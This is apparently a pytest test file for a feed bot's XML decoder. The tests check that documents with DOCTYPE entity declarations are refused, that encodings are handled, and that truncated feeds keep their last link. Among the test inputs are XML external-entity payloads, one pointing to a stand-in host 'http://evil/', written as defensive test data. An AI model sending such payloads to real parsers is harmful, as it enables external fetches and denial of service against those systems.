"""Encodings, and what never reaches a parser."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from bot.feeds.decode import decode, refusal, with_last_link

RSS = '<rss version="2.0"><channel></channel></rss>'


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        (RSS, None),
        (f'<?xml version="1.0"?>\n<!-- a <!DOCTYPE x [<!ENTITY a "b">]> -->{RSS}', None),
        (f'<!DOCTYPE rss PUBLIC "-//N//DTD [<!ENTITY" "http://n/r.dtd">{RSS}', None),
        (f"<!DOCTYPE rss [ ]>{RSS}", None),
        ("<rss><!-- <!DOCTYPE x [<!ENTITY a 'b'>]> --></rss>", None),
        (f'<!DOCTYPE rss [<!ENTITY a "b">]>{RSS}', "entities"),
        (f'<!DOCTYPE rss [<!ENTITY % a SYSTEM "http://evil/">%a;]>{RSS}', "entities"),
        (f"<!DOCTYPE rss [<!ELEMENT rss ANY>]>{RSS}", "entities"),
        (f"<!DOCTYPE rss [<!-- ]> --><!ENTITY a 'b'>]>{RSS}", "entities"),
        (f"<!-- x --><?a ?> <!DOCTYPE rss\n[\n<!ENTITY a 'b'>\n]>{RSS}", "entities"),
        (f"<!DOCTYPE rss><!DOCTYPE rss [<!ENTITY a 'b'>]>{RSS}", "entities"),
        ("<!DOCTYPE html><html></html>", "web page"),
        ("<!doctype HTML PUBLIC 'x'><html></html>", "web page"),
        ("<html xmlns='http://www.w3.org/1999/xhtml'></html>", "web page"),
        ('{"version": "https://jsonfeed.org/version/1"}', "nothing like XML"),
        ("", "nothing like XML"),
        ("<!DOCTYPE rss [", "entities"),
        ("<!-- never closed", "nothing like XML"),
    ],
)
def test_refusal(text: str, expected: str | None) -> None:
    assert refusal(text) == expected


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16", "utf-16-le", "utf-32"])
def test_entities_do_not_hide_in_an_encoding(encoding: str) -> None:
    hostile = f'<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY a "b">]>{RSS}'
    text, _ = decode(hostile.encode(encoding), "")
    assert refusal(text) == "entities"


def test_the_header_counts_where_the_document_says_nothing() -> None:
    content = "<rss>\u0416</rss>".encode("koi8-r")
    assert decode(content, "text/xml; charset=KOI8-R")[0] == "<rss>\u0416</rss>"
    assert decode(content, "text/xml; charset=rot13")[0] == "<rss>ö</rss>"


def test_references_to_characters_xml_forbids_go() -> None:
    text, _ = decode(b"<a>&#0;&#8;&#xD800;&#xFFFF;&#99999999999;&#x41;&#9;</a>", "")
    assert text == "<a>     &#x41;&#9;</a>"


@given(
    st.binary(max_size=200) | st.text("&#x0;D8\x00\ufeff a<", max_size=40).map(str.encode),
    st.text(max_size=40),
)
def test_any_bytes_become_text_a_parser_can_take(content: bytes, content_type: str) -> None:
    text, _ = decode(content, content_type)
    assert decode(text.encode("utf-8"), "") == (text, "")
    assert "\x00" not in text


@pytest.mark.parametrize(
    ("cut", "ended"),
    [
        ("<item><link>https://a.uk/2</li", "<item><link>https://a.uk/2</link>"),
        ("<entry><link href='https://a.uk/2' /", "<entry><link href='https://a.uk/2'/>"),
        ("<item><link>https://a.uk/2", None),
        ("<entry><link href='https://a.uk/2", None),
        ("<item><link>https://a.uk/2</link><description>on</", None),
    ],
)
def test_a_feed_cut_off_behind_an_address_keeps_it(cut: str, ended: str | None) -> None:
    assert with_last_link(cut) == (ended or cut)
